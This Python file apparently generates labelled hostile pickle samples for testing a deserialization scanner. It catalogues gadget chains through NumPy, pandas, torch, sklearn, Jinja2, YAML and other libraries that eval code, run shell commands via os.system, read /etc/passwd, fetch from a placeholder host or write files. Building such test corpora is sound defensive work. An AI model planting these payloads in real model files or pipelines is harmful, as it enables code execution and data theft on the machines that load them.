"""Hostile pickles of the sixth round: what the libraries beside a model offer, and dotted names."""

from collections.abc import Iterator

import numpy as np

from held_out.sixth_asm import CANARY, CMD, EXPR, G, Loaded, R, framed, g, r, whole
from held_out.sixth_gadgets import NOWHERE, PORT, Row

URL = f"http://{NOWHERE}:{PORT}/a"


def numerical() -> Iterator[Row]:
    """NumPy, SciPy, pandas, scikit-learn, joblib."""
    ev = g("builtins.eval")
    yield (
        "numpy.f2py.crackfortran.param_eval",
        r("numpy.f2py.crackfortran.param_eval", EXPR, {}, {}, None),
    )
    yield "numpy.testing.measure", r("numpy.testing.measure", EXPR, 1)
    yield "numpy.memmap", r("numpy.memmap", CANARY, "uint8", "w+", 0, (4,))
    yield (
        "numpy.lib.format.open_memmap",
        r("numpy.lib.format.open_memmap", CANARY, "w+", "uint8", (4,)),
    )
    yield "numpy.savetxt", r("numpy.savetxt", CANARY, [1, 2])
    yield "numpy.save", r("numpy.save", CANARY, [1, 2])
    yield "numpy.savez_compressed", r("numpy.savez_compressed", CANARY, [1])
    yield "numpy.genfromtxt", r("numpy.genfromtxt", URL)
    yield (
        "numpy.DataSource.open",
        r("numpy.lib.npyio:DataSource.open", r("numpy.lib.npyio.DataSource", "."), URL),
    )
    yield "numpy.vectorize", r(r("numpy.vectorize", ev, ["O"]), EXPR)
    yield "numpy.frompyfunc", r(r("numpy.frompyfunc", ev, 1, 1), EXPR)
    yield "numpy.testing.runstring", r("numpy.testing.runstring", EXPR, {})
    yield "numpy.fromregex", r("numpy.fromregex", "/etc/passwd", "(a)", [("a", "S1")])
    yield "scipy.io.savemat", r("scipy.io.savemat", CANARY, {"a": 1})
    yield (
        "scipy.io.wavfile.write",
        r("scipy.io.wavfile.write", CANARY, 8000, r("numpy.array", [1, 2])),
    )
    yield "scipy.io.netcdf_file", r("scipy.io.netcdf_file", CANARY, "w")
    yield (
        "scipy.sparse.save_npz",
        r("scipy.sparse.save_npz", CANARY, r("scipy.sparse.csr_matrix", [[1]])),
    )
    yield (
        "pandas.DataFrame.to_csv",
        r("pandas:DataFrame.to_csv", r("pandas.DataFrame", {"a": [1]}), CANARY),
    )
    yield "pandas.to_pickle", r("pandas.to_pickle", 1, CANARY)
    yield "pandas.read_json", r("pandas.read_json", URL)
    yield "pandas.read_fwf", r("pandas.read_fwf", "/etc/passwd")
    yield "pandas.Series.map", r("pandas:Series.map", r("pandas.Series", [EXPR]), ev)
    yield (
        "sklearn.FunctionTransformer",
        r(
            "sklearn.preprocessing:FunctionTransformer.transform",
            r("sklearn.preprocessing.FunctionTransformer", ev),
            EXPR,
        ),
    )
    yield (
        "sklearn.datasets.load_svmlight_file",
        r("sklearn.datasets.load_svmlight_file", "/etc/passwd"),
    )
    yield (
        "sklearn.datasets.dump_svmlight_file",
        r("sklearn.datasets.dump_svmlight_file", [[1]], [1], CANARY),
    )
    yield "sklearn.datasets.fetch_file", r("sklearn.datasets.fetch_file", URL, ".")
    yield (
        "sklearn.utils.parallel",
        r(
            "sklearn.utils.parallel:_FuncWrapper.__call__",
            r("sklearn.utils.parallel._FuncWrapper", ev),
            EXPR,
        ),
    )
    yield "joblib.dump", r("joblib.dump", 1, CANARY)
    yield "joblib.Memory", r("joblib:Memory.eval", r("joblib.Memory", f"./{CANARY}"), ev, EXPR)
    yield "joblib.Parallel", r(r("joblib.Parallel", 1), [(ev, (EXPR,), {})])
    yield (
        "joblib.testing.check_subprocess_call",
        r("joblib.testing.check_subprocess_call", ["touch", CANARY]),
    )
    yield "joblib.disk.mkdirp", r("joblib.disk.mkdirp", CANARY)


def learned() -> Iterator[Row]:
    """Torch, Keras, boosting and other frameworks."""
    ev = g("builtins.eval")
    yield "torch.save", r("torch.save", 1, CANARY)
    yield "torch.load", r("torch.load", "/etc/passwd")
    yield "torch.hub.download_url_to_file", r("torch.hub.download_url_to_file", URL, CANARY)
    yield "torch.ops.load_library", r("torch:ops.load_library", f"./{CANARY}.so")
    yield "torch.fx._exec_with_source", r("torch.fx.graph_module._exec_with_source", EXPR, {})
    yield (
        "torch.fx._forward_from_src",
        r("torch.fx.graph_module._forward_from_src", f"{EXPR}\ndef forward(self): pass", {}),
    )
    yield (
        "torch.fx.reduce_graph_module",
        r(
            "torch.fx.graph_module.reduce_graph_module",
            {"_code": f"{EXPR}\ndef forward(self): pass"},
            f"{EXPR}\n",
        ),
    )
    yield "torch.pytree.tree_map", r("torch.utils._pytree.tree_map", ev, [EXPR])
    yield "torch.from_file", r("torch.from_file", CANARY, True, 4)
    yield "torch.storage.from_file", r("torch:UntypedStorage.from_file", CANARY, True, 4)
    yield (
        "torch.utils.data.IterableWrapper",
        r(
            "builtins.list",
            r(
                "torch.utils.data.datapipes.iter.Mapper",
                r("torch.utils.data.datapipes.iter.IterableWrapper", [EXPR]),
                ev,
            ),
        ),
    )
    yield (
        "torch.cpp_extension.load",
        r("torch.utils.cpp_extension.load", CANARY, [f"{CANARY}.cpp"], None, None, None, None, "."),
    )
    yield "torch.utils.model_dump", r("torch.utils.model_dump.get_model_info", "/etc/passwd")
    yield "torch.jit.save", r("torch.jit.save", r("torch.jit.script", r("torch.nn.ReLU")), CANARY)
    yield (
        "torch.cuda._memory_viz",
        r("torch.cuda._memory_viz.format_flamegraph", "a", f"./{CANARY}/flamegraph.pl"),
    )
    yield "keras.utils.get_file", r("keras.utils.get_file", "a", URL)
    yield "keras.tree.map_structure", r("keras.tree.map_structure", ev, EXPR)
    yield "keras.Model.save", r("keras:Model.save", r("keras.Sequential", []), f"{CANARY}.keras")
    yield "onnx.save", r("onnx.save", r("onnx.ModelProto"), CANARY)
    yield (
        "xgboost.Booster.save_model",
        r("xgboost:Booster.dump_model", r("xgboost.Booster"), CANARY),
    )
    yield (
        "lightgbm.Dataset.save_binary",
        r(
            "lightgbm:Dataset.save_binary",
            r("lightgbm.Dataset", r("numpy.zeros", (4, 2)), [0, 1, 0, 1]),
            CANARY,
        ),
    )
    yield "h5py.File", r("h5py.File", CANARY, "w")
    yield "safetensors.numpy.save_file", r("safetensors.numpy.save_file", {}, CANARY)
    yield "skops.io.dump", r("skops.io.dump", 1, CANARY)
    yield "cloudpickle.loads", r("cloudpickle.loads", whole(r("posix.system", CMD)))
    yield (
        "cloudpickle._make_function",
        r(
            r(
                "cloudpickle.cloudpickle._make_function",
                r("marshal.loads", code()),
                {"__builtins__": g("builtins:__dict__")},
                "f",
                (),
                None,
            )
        ),
    )


def code() -> bytes:
    import marshal  # noqa: TID251 - written, never read

    return marshal.dumps(compile(EXPR, "a", "eval"))


def surrounding() -> Iterator[Row]:
    """What is often installed beside the frameworks."""
    yield "sympy.parse_expr", r("sympy.parsing.sympy_parser.parse_expr", EXPR)
    yield "sympy.lambdify", r(r("sympy.lambdify", [], EXPR))
    yield "sympy.sympify", r("sympy.sympify", EXPR)
    yield "networkx.write_gml", r("networkx.write_gml", r("networkx.Graph"), CANARY)
    yield (
        "jinja2.Environment.compile_expression",
        r(
            r(
                "jinja2:Environment.compile_expression",
                r("jinja2.Environment"),
                f"cycler.__init__.__globals__.os.system('{CMD}')",
            )
        ),
    )
    yield (
        "jinja2.nativetypes",
        r(
            "jinja2.nativetypes:NativeTemplate.render",
            r(
                "jinja2.nativetypes.NativeTemplate",
                f"{{{{ cycler.__init__.__globals__.os.system('{CMD}') }}}}",
            ),
        ),
    )
    yield "yaml.unsafe_load", r("yaml.unsafe_load", f"!!python/object/apply:os.system ['{CMD}']")
    yield "requests.Session.get", r("requests:Session.get", r("requests.Session"), URL)
    yield (
        "urllib3.PoolManager.request",
        r("urllib3:PoolManager.request", r("urllib3.PoolManager"), "GET", URL),
    )
    yield "httpx.post", r("httpx.post", URL)
    yield "setuptools.distutils.spawn", r("setuptools._distutils.spawn.spawn", ["touch", CANARY])
    yield (
        "setuptools.ensure_directory",
        r("setuptools.archive_util.ensure_directory", f"{CANARY}/a"),
    )
    yield (
        "pip.call_subprocess",
        r("pip._internal.utils.subprocess.call_subprocess", ["touch", CANARY]),
    )
    yield (
        "pip._internal.cli.main",
        r(
            "pip._internal.cli.main.main",
            ["download", f"--index-url={URL}", "a", "--no-input", "--retries=0", "--timeout=1"],
        ),
    )
    yield (
        "click.Editor",
        r(
            "click._termui_impl:Editor.edit_files",
            r("click._termui_impl.Editor", f"{CMD};true"),
            ["a"],
        ),
    )
    yield "cffi.dlopen", r("cffi:FFI.dlopen", r("cffi.FFI"), f"./{CANARY}.so")
    yield (
        "fsspec.open",
        r(
            "fsspec.implementations.local:LocalFileSystem.touch",
            r("fsspec.implementations.local.LocalFileSystem"),
            CANARY,
        ),
    )
    yield "mlflow._exec_cmd", r("mlflow.utils.process._exec_cmd", ["touch", CANARY])
    yield "git.Git.execute", r("git.cmd:Git.execute", r("git.cmd.Git"), ["touch", CANARY])
    yield (
        "sqlalchemy.create_engine",
        r(
            r("operator.methodcaller", "connect"),
            r("sqlalchemy.create_engine", f"sqlite:///{CANARY}"),
        ),
    )
    yield (
        "polars.write_csv",
        r("polars:DataFrame.write_csv", r("polars.DataFrame", {"a": [1]}), CANARY),
    )
    yield (
        "tqdm.tqdm",
        r("builtins.list", r("tqdm.tqdm", r("builtins.map", g("builtins.eval"), [EXPR]))),
    )
    yield "werkzeug.import_string", r(r("werkzeug.utils.import_string", "os.system"), CMD)
    yield "anyio.run", r("anyio.run", g("anyio.run_process"), CMD)
    yield "pytest.rm_rf", r("_pytest.pathlib.rm_rf", r("pathlib.Path", "/var/sixth-canary"))


def elsewhere() -> Iterator[Row]:
    """Libraries that are not installed where this runs: by construction."""
    yield "tensorflow.raw_ops.WriteFile", r("tensorflow.raw_ops.WriteFile", CANARY, "x")
    yield "tensorflow.py_function", r("tensorflow.py_function", g("builtins.eval"), [EXPR], "a")
    yield "transformers.AutoModel", r("transformers:AutoModel.from_pretrained", "evil/repo")
    yield (
        "transformers.utils.get_class",
        r("transformers.dynamic_module_utils.get_class_from_dynamic_module", "a.B", "evil/repo"),
    )
    yield (
        "diffusers.DiffusionPipeline",
        r("diffusers:DiffusionPipeline.from_pretrained", "evil/repo"),
    )
    yield "datasets.load_dataset", r("datasets.load_dataset", "evil/repo")
    yield (
        "peewee.SqliteDatabase",
        r("peewee:SqliteDatabase.connect", r("peewee.SqliteDatabase", CANARY)),
    )
    yield "dill.loads", r("dill.loads", whole(r("posix.system", CMD)))
    yield "numpy.distutils.exec_command", r("numpy.distutils.exec_command.exec_command", CMD)
    yield "pytorch_lightning.load", r("pytorch_lightning:LightningModule.load_from_checkpoint", URL)


def dotted() -> Iterator[Row]:
    """Trusted modules that reach others by attributes."""
    for path in (
        "sklearn.base:warnings.sys.modules", "sklearn.pipeline:np.f2py.os.system", "scipy.sparse:_index.np.f2py.os.system",
        "torch:os.system", "torch.nn.functional:importlib.import_module", "torch._tensor:torch._utils.traceback.linecache.os.system",
        "joblib.numpy_pickle:os.system", "joblib.hashing:pickle.sys.modules", "pandas.core.frame:sys.modules",
        "xgboost.sklearn:os.system", "lightgbm.sklearn:np.lib._datasource.os.system", "collections:_sys.modules",
        "sklearn.utils.validation:warnings.sys.modules", "datetime:sys.modules",
        "copyreg:_reconstructor.__globals__", "xgboost.core:os.system",
        "sklearn.tree._tree:np.f2py.os.system", "keras.src.saving.serialization_lib:warnings.sys.modules",
        "torch.storage:copy.__builtins__", "sklearn.base:copy.__builtins__", "pathlib:os.system", "uuid:os.system",
        "sklearn.utils._bunch:warnings.sys.modules",
    ):  # fmt: skip
        target = g(path)
        name = path.replace(":", "-")
        if path.endswith("system"):
            yield name, r(target, CMD)
        elif path.endswith("modules"):
            getter = R(G(target.module, f"{target.name}.get"), ("posix",))
            yield name, r(r("builtins.getattr", getter, "system"), CMD)
        elif path.endswith("import_module"):
            yield name, r(r("builtins.getattr", r(target, "os"), "system"), CMD)
        elif path.endswith("__builtins__"):
            yield name, r(R(G(target.module, f"{target.name}.get"), ("eval",)), EXPR)
        elif path.endswith("__globals__"):
            built = R(G(target.module, f"{target.name}.get"), ("__builtins__",))
            yield name, r(r(r("operator.itemgetter", "eval"), built), EXPR)
    yield "numpy-ndarray.tofile", r("numpy:ndarray.tofile", r("numpy.array", [1]), CANARY)
    yield (
        "pandas-DataFrame.to_pickle",
        r("pandas:DataFrame.to_pickle", r("pandas.DataFrame"), CANARY),
    )
    yield (
        "torch-serialization.pickle.loads",
        r(G("torch", "serialization.pickle.loads"), whole(r("posix.system", CMD))),
    )


def encoded(
    rng: np.random.Generator,
    rows: Iterator[Row],
    category: str,
    how: str = "pickle",
    protocols: tuple[int, ...] = (0, 2, 4, 4, 5),
) -> Iterator[Loaded]:
    for name, value in rows:
        p = int(rng.choice(protocols))
        data = whole(value, p=p)
        data = framed(data) if p >= 4 and rng.random() < 0.5 else data
        file = f"{name}.p{p}.{'bin' if rng.random() < 0.2 else 'pkl'}"
        yield Loaded(category, file, {file: data}, how)


def samples(rng: np.random.Generator) -> Iterator[Loaded]:
    for rows in (numerical(), learned(), surrounding()):
        yield from encoded(rng, rows, "P03 third-party gadget")
    yield from encoded(rng, elsewhere(), "P03 third-party gadget", "construction")
    yield from encoded(rng, dotted(), "P07 dotted names", protocols=(4, 4, 5))
